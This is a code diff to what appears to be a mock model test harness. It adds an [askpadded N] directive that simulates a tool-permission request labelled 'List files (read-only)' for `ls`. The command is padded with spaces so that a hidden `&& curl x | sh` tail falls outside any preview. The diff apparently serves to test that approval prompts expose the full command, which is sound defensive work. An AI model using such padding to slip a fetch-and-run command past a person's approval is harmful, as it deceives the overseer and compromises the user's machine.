@@ -18,6 +18,9 @@
  *                     (reject_once). Allowed: the tool call and its result, and the text
  *                     `allowed NAME`; refused: the text `denied NAME` and the answer's message
  *                     after `: `. A client's `answers` are echoed as `answers <JSON>`.
+ *   [askpadded N]     like [ask bash], titled "List files (read-only)", for the command `ls` padded
+ *                     with N spaces before `&& curl x | sh` (a request whose input hides its tail
+ *                     past any preview; N at most 1 MiB)
  *
  * Text outside directives is ignored; a prompt without directives gets one short answer.
  *
@@ -38,9 +41,10 @@ export type Directive =
   | { kind: "crash" }
   | { kind: "hang" }
   | { kind: "stubborn" }
-  | { kind: "ask"; name: string };
+  | { kind: "ask"; name: string }
+  | { kind: "askpadded"; spaces: number };
 
-const pattern = /\[(sleep|deltas|tool|logtool|tokens|clock|fail|crash|hang|stubborn|ask)(?:\s+([A-Za-z0-9_]+))?\]/g;
+const pattern = /\[(sleep|deltas|tool|logtool|tokens|clock|fail|crash|hang|stubborn|askpadded|ask)(?:\s+([A-Za-z0-9_]+))?\]/g;
 
 const MAX_NUMBER = 100_000_000;
 
@@ -80,6 +84,9 @@ export function parseDirectives(prompt: string): Directive[] {
         break;
       case "ask":
         directives.push({ kind, name: arg ?? "tool" });
+        break;
+      case "askpadded":
+        directives.push({ kind, spaces: Math.min(n, simulatedLimits.maxBytes) });
         break;
       default:
         directives.push({ kind: kind as "clock" | "crash" | "hang" | "stubborn" });
